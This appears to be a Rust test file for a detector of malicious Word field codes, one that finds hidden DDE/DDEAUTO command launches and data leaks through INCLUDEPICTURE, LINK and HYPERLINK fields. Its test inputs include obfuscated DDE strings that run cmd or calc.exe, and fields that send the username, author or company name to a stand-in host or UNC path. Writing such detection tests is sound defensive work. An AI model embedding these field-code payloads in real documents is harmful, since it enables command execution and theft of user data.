//! How what was hidden is told, what leaves with an address, and the types of binary documents.

use super::*;

fn steps(found: &Found, id: TechniqueId) -> Vec<(&str, &str)> {
    found
        .techniques
        .iter()
        .filter(|technique| technique.id == id)
        .filter_map(|technique| Some((technique.before.as_deref()?, technique.after.as_deref()?)))
        .collect()
}

#[test]
fn each_step_shows_before_and_after() {
    let says = [
        Say::Variable("v", "var"),
        Say::Property("p", "prop"),
        Say::Passage("m", "mark"),
        Say::Block("b", "block"),
    ];
    let text = concat!(
        "{SET s cmd}{DDE {REF s}{DOCVARIABLE v}{DOCPROPERTY p}{m}{AUTOTEXT b}",
        "{IF 1=1 yes no}{QUOTE 99 109}{QUOTE 0x64}{= 60+7}{= 2 \\# \"'lit'\"}",
        "{FILLIN x \\d def}{QUOTE ab \\* Upper}{MERGEFIELD data|cell} t}"
    );
    let limits = Limits::default();
    let budget = Budget::new(&limits, None);
    let forest = forest(&marks(text), &budget);
    let found = answers(&forest, &says, &budget)
        .into_iter()
        .find_map(|answer| answer.found.into_iter().next())
        .unwrap();
    for (id, before, after) in [
        (TechniqueId::SetRef, "REF s", "cmd"),
        (TechniqueId::DocVariable, "DOCVARIABLE v", "var"),
        (TechniqueId::DocProperty, "DOCPROPERTY p", "prop"),
        (TechniqueId::BookmarkText, "m", "mark"),
        (TechniqueId::BuildingBlock, "AUTOTEXT b", "block"),
        (TechniqueId::IfBranch, "IF 1=1 yes no", "yes"),
        (TechniqueId::QuoteCodes, "QUOTE 99 109", "cm"),
        (TechniqueId::HexCodes, "QUOTE 0x64", "d"),
        (TechniqueId::ComputedNumber, "= 60+7", "67"),
        (TechniqueId::PictureLiteral, "= 2 \\# \"'lit'\"", "lit"),
        (TechniqueId::NestedDefault, "FILLIN x \\d def", "def"),
        (TechniqueId::CaseSwitch, "QUOTE ab \\* Upper", "AB"),
        (TechniqueId::DataDriven, "MERGEFIELD data", "cell"),
    ] {
        assert_eq!(steps(&found, id), [(before, after)], "{id:?}");
    }
}

#[test]
fn steps_within_steps_and_no_end_of_them() {
    let field = one("{DDE {QUOTE {QUOTE 99 109 100}} t}");
    assert_eq!(
        steps(&field, TechniqueId::QuoteCodes),
        [("QUOTE 99 109 100", "cmd")]
    );
    let many = format!("{{DDE {} t}}", "{QUOTE 99}".repeat(1_000));
    assert!(one(&many).techniques.len() < 32);
}

#[test]
fn l03_what_leaves_with_an_address() {
    for text in [
        r#"{INCLUDEPICTURE "http://x/{USERNAME}.png" \d}"#,
        r#"{INCLUDEPICTURE "http://x/{QUOTE {USERADDRESS}}.png" \d}"#,
        r#"{INCLUDETEXT "\\\\h\\s\\{FILENAME}"}"#,
        r#"{LINK htmlfile "http://x/{AUTHOR}" \a}"#,
        r#"{HYPERLINK "http://x/?{DOCPROPERTY Company}"}"#,
        r#"{INCLUDEPICTURE "http://x/{INFO Author}.png" \d}"#,
    ] {
        let field = one(text);
        assert!(has(&field, TechniqueId::Exfiltration), "{text}");
    }
    let picture = external(r#"{INCLUDEPICTURE "http://x/{USERNAME}.png" \d}"#);
    assert_eq!(picture.carrier, Carrier::IncludePicture);
    assert_eq!(picture.target, "http://x/\u{27e6}USERNAME\u{27e7}.png");
    for text in [
        r#"{INCLUDETEXT "{FILENAME}"}"#,
        r#"{INCLUDEPICTURE "http://x/a.png" \c {USERNAME}}"#,
        r#"{INCLUDEPICTURE "http://x/{PAGE}.png"}"#,
    ] {
        assert!(!has(&one(text), TechniqueId::Exfiltration), "{text}");
    }
}

#[test]
fn the_data_of_a_merge() {
    let data = external(r#"{DATA "\\\\h\\s\\list.doc" "head.doc"}"#);
    assert_eq!(data.carrier, Carrier::MailMerge);
    assert_eq!(data.target, r"\\h\s\list.doc");
    for text in [
        "{EMBED Equation.3}",
        "{PRINT x}",
        "{CONTROL Forms.TextBox.1}",
        "{PRIVATE x}",
    ] {
        assert!(found(text).is_empty(), "{text}");
    }
}

/// Fields of a binary document: each with its type.
fn typed(flt: u8, text: &str, confidence: Confidence) -> Vec<Found> {
    let limits = Limits::default();
    let budget = Budget::new(&limits, None);
    let mut forest = Forest::default();
    forest.begin_part(0);
    let mark = Begin {
        flt: Some(flt),
        confidence,
        ..Begin::default()
    };
    forest.begin(mark, &budget).unwrap();
    forest.text(text, Style::default(), &budget).unwrap();
    forest.end(&budget).unwrap();
    forest.end_part();
    answers(&forest, &[], &budget)
        .into_iter()
        .flat_map(|answer| answer.found)
        .collect()
}

#[test]
fn the_stored_type_decides_where_the_text_is_no_keyword() {
    let found = typed(0x2E, r#" VERKNUEPFUNG cmd "/c calc" "#, Confidence::Certain);
    assert_eq!(
        triples(&found[0]),
        [(true, Some("cmd"), Some("/c calc"), None)]
    );
    assert_eq!(found[0].confidence, Confidence::Medium);
    assert!(!has(&found[0], TechniqueId::FltMismatch));
    // No keyword at all.
    let found = typed(0x2D, r#" "c:\\cmd.exe" "/c calc" "#, Confidence::Certain);
    assert_eq!(
        triples(&found[0])[0],
        (false, Some(r"c:\cmd.exe"), Some("/c calc"), None)
    );
    // L10.
    let found = typed(0x37, r#" GRAFIK "http://x/a.wmf" "#, Confidence::Certain);
    let Outcome::External(external) = &found[0].outcome else {
        panic!("{found:?}");
    };
    assert_eq!(external.carrier, Carrier::IncludePicture);
    assert_eq!(external.target, "http://x/a.wmf");
    assert!(typed(0x21, " SEITE ", Confidence::Certain).is_empty());
    assert!(typed(0x58, r#" HYPERLINK \l "x" "#, Confidence::Certain).is_empty());
}

#[test]
fn nested_fields_have_types_too() {
    let limits = Limits::default();
    let budget = Budget::new(&limits, None);
    let mut forest = Forest::default();
    forest.begin_part(0);
    forest.begin(Begin::default(), &budget).unwrap();
    for (flt, text) in [(0x23, "ZITAT 68 68 69"), (0x0F, "TITEL"), (0x02, "mark")] {
        let mark = Begin {
            flt: Some(flt),
            ..Begin::default()
        };
        forest.begin(mark, &budget).unwrap();
        forest.text(text, Style::default(), &budget).unwrap();
        forest.end(&budget).unwrap();
        forest.text(" ", Style::default(), &budget).unwrap();
    }
    forest.end_part();
    let says = [Say::Property("TITLE", "cmd"), Say::Passage("mark", "calc")];
    let found: Vec<Found> = answers(&forest, &says, &budget)
        .into_iter()
        .flat_map(|answer| answer.found)
        .collect();
    assert_eq!(
        triples(&found[0])[0],
        (false, Some("cmd"), Some("calc"), None)
    );
}

#[test]
fn two_types_are_two_findings() {
    let found = typed(0x38, r#"DDEAUTO cmd "c:\\calc.exe""#, Confidence::Certain);
    assert_eq!(found.len(), 2);
    assert_eq!(triples(&found[0])[0].1, Some("cmd"));
    assert_eq!(found[0].confidence, Confidence::Certain);
    assert!(matches!(&found[1].outcome, Outcome::External(link)
        if link.carrier == Carrier::LinkField && link.target == r"c:\calc.exe"));
    assert_eq!(found[1].confidence, Confidence::Medium);
    assert!(found.iter().all(|one| has(one, TechniqueId::FltMismatch)));
    // The text is DDE, the type claims a page number.
    let found = typed(0x21, "DDEAUTO cmd", Confidence::Certain);
    assert_eq!(found.len(), 1);
    assert!(has(&found[0], TechniqueId::FltMismatch));
    // The type is DDE, the text claims a quotation.
    let found = typed(0x2E, "QUOTE cmd calc", Confidence::Certain);
    assert_eq!(
        triples(&found[0]),
        [(true, Some("cmd"), Some("calc"), None)]
    );
    assert!(has(&found[0], TechniqueId::FltMismatch));
    // Nothing to say about either.
    assert!(typed(0x2E, " PAGE ", Confidence::Certain).is_empty());
    let found = typed(0x2E, "DDEAUTO cmd", Confidence::Certain);
    assert_eq!(found.len(), 1);
    assert!(!has(&found[0], TechniqueId::FltMismatch));
}

#[test]
fn nothing_is_surer_than_its_field() {
    for confidence in [Confidence::Low, Confidence::Medium, Confidence::Certain] {
        let found = typed(0x2E, "DDEAUTO cmd", confidence);
        assert_eq!(found[0].confidence, confidence);
    }
}
